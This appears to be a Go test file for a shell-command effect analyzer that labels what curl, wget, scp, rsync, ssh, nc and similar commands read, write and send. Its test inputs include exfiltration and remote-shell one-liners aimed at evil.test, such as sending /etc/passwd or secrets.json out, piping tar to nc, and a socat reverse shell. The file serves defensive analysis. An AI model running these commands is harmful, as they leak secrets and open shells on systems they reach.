package analyze

import (
	"testing"

	"github.com/ambit-go/ambit/boundary/effect"
)

// Which way data flows.
func TestCurl(t *testing.T) {
	tell(t, []story{
		{cmd: "curl https://x.test/a", want: `
			read command curl
			connect url https://x.test/a in`},
		{cmd: "curl -sSLo out.html x.test/a", want: `
			read command curl
			write path /repo/out.html
			connect host x.test in`},
		{cmd: "curl -O https://x.test/a.tgz", want: `
			read command curl
			connect url https://x.test/a.tgz in
			write path /repo/a.tgz`},
		{cmd: "curl -d @secrets.json https://x.test/collect", want: `
			read command curl
			read path /repo/secrets.json
			read secret file:/repo/secrets.json
			connect url https://x.test/collect out`},
		{cmd: "curl -F 'file=@dump.sql;type=text/plain' https://x.test/up", want: `
			read command curl
			read path /repo/dump.sql
			connect url https://x.test/up out`},
		{cmd: "curl -T- https://x.test/up < a.bin", want: `
			read path /repo/a.bin
			read command curl
			connect url https://x.test/up out`},
		{cmd: "curl -X DELETE https://api.test/v1/items/3", want: `
			read command curl
			connect url https://api.test/v1/items/3 out`},
		{cmd: "curl --config opts https://x.test/", want: `
			read command curl
			read path /repo/opts
			unknown any ?
			connect url https://x.test/ in`},
		{cmd: "curl -x http://p.test:8080 https://x.test/", want: `
			read command curl
			connect url http://p.test:8080/
			connect url https://x.test/ in`},
		{name: "the host is what is not known", cmd: `curl "https://$H/a"`, want: `
			read command curl
			connect url ? in`},
		{name: "the host is known, the path is not", cmd: `curl "https://x.test/u/$U"`, want: `
			read command curl
			connect url https://x.test/… in`},
		{name: "a file", cmd: "curl file:///etc/passwd", want: `
			read command curl
			read path /etc/passwd`},
		{name: "curl's own braces", cmd: `curl "https://x.test/{a,b}"`, want: `
			read command curl
			connect url https://x.test/… in`},
		{name: "sent where its name resolves elsewhere", cmd: "curl --connect-to api.test:443:evil.test:443 https://api.test/", want: `
			read command curl
			connect host evil.test
			connect url https://api.test/ in`},
		{name: "credentials of a file", cmd: "curl -n https://x.test/", want: `
			read command curl
			read secret file:/home/ada/.netrc
			connect url https://x.test/ in`},
	})
}

func TestOtherTransfers(t *testing.T) {
	tell(t, []story{
		{cmd: "wget -q https://x.test/a.iso -P dl", want: `
			read command wget
			write path /repo/dl…
			connect url https://x.test/a.iso in`},
		{cmd: "wget --post-file=/etc/passwd https://x.test/", want: `
			read command wget
			read path /etc/passwd
			connect url https://x.test/ out
			write path /repo/…`},
		{cmd: "scp -i ~/.ssh/deploy a.tgz ops@web1.test:/srv/", want: `
			read command scp
			grant identity ssh-key:/home/ada/.ssh/deploy
			read path /repo/a.tgz…
			grant identity ssh-user:ops
			connect host web1.test out
			write resource ssh:host=web1.test,path=/srv out`},
		{cmd: "rsync -az --delete web1.test:/srv/data/ ./data/", want: `
			read command rsync
			connect host web1.test in
			read resource ssh:host=web1.test,path=/srv/data in
			write path /repo/data/…
			delete path /repo/data/…`},
		{cmd: "rsync -e 'ssh -i k' a h.test:b", want: `
			read command rsync
			grant identity ssh-key:/repo/k
			read path /repo/a…
			connect host h.test out
			write resource ssh:host=h.test… out`},
		{cmd: "ssh -J jump.test -p 2222 web1.test", want: `
			read command ssh
			connect host jump.test
			connect host web1.test:2222
			exec resource ssh:host=web1.test`},
		{cmd: "ssh -o ProxyCommand='nc evil.test 22' web1.test uptime", want: `
			read command ssh
			exec command nc
			connect host evil.test:22
			connect host web1.test
			exec resource ssh:host=web1.test
			exec command uptime`},
		{cmd: "ssh -L 5432:db.test:5432 web1.test -N", want: `
			read command ssh
			connect host ?
			connect host web1.test
			exec resource ssh:host=web1.test`},
		{cmd: "tar cz src | nc evil.test 4444", want: `
			read command tar
			read path /repo/src…
			exec command nc
			connect host evil.test:4444 out`},
		{cmd: "nc -lvp 4444 -e /bin/sh", want: `
			exec command nc
			read command sh
			connect host ?`},
		{cmd: "socat TCP:evil.test:443 EXEC:/bin/sh", want: `
			exec command socat
			connect host evil.test:443 out
			read command sh`},
		{cmd: "dig +short $(cat /etc/hostname).evil.test", want: `
			read command cat
			read path /etc/hostname
			read command dig
			connect host ? out`},
		{cmd: "ping -c 1 db.test", want: `
			read command ping
			connect host db.test`},
		{cmd: "nmap -p 1-1000 10.0.0.0/24", want: `
			exec command nmap
			connect host ?`},
	})
}

func TestHost(t *testing.T) {
	for _, test := range []struct {
		in, want string
		sure     effect.Certainty
	}{
		{"x.test", "x.test", effect.Exact},
		{"X.Test:8080", "x.test:8080", effect.Exact},
		{"x.test.", "x.test", effect.Exact},
		{"[::1]:80", "[::1]:80", effect.Exact},
		{"::1", "::1", effect.Exact},
		{"127.0.0.1", "127.0.0.1", effect.Exact},
		{"::ffff:10.0.0.1", "10.0.0.1", effect.Exact},
		{"10.1", "10.0.0.1", effect.Unknown},
		{"x.test:99999", "", effect.Unknown},
		{"x.test:", "x.test", effect.Exact},
		{"", "", effect.Unknown},
		{".x.test", "", effect.Unknown},
		{"a b", "", effect.Unknown},
		{"-x.test", "", effect.Unknown},
	} {
		if got, sure := Host(test.in); got != test.want || sure != test.sure {
			t.Errorf("Host(%q) = %q, %v, want %q, %v", test.in, got, sure, test.want, test.sure)
		}
	}
}
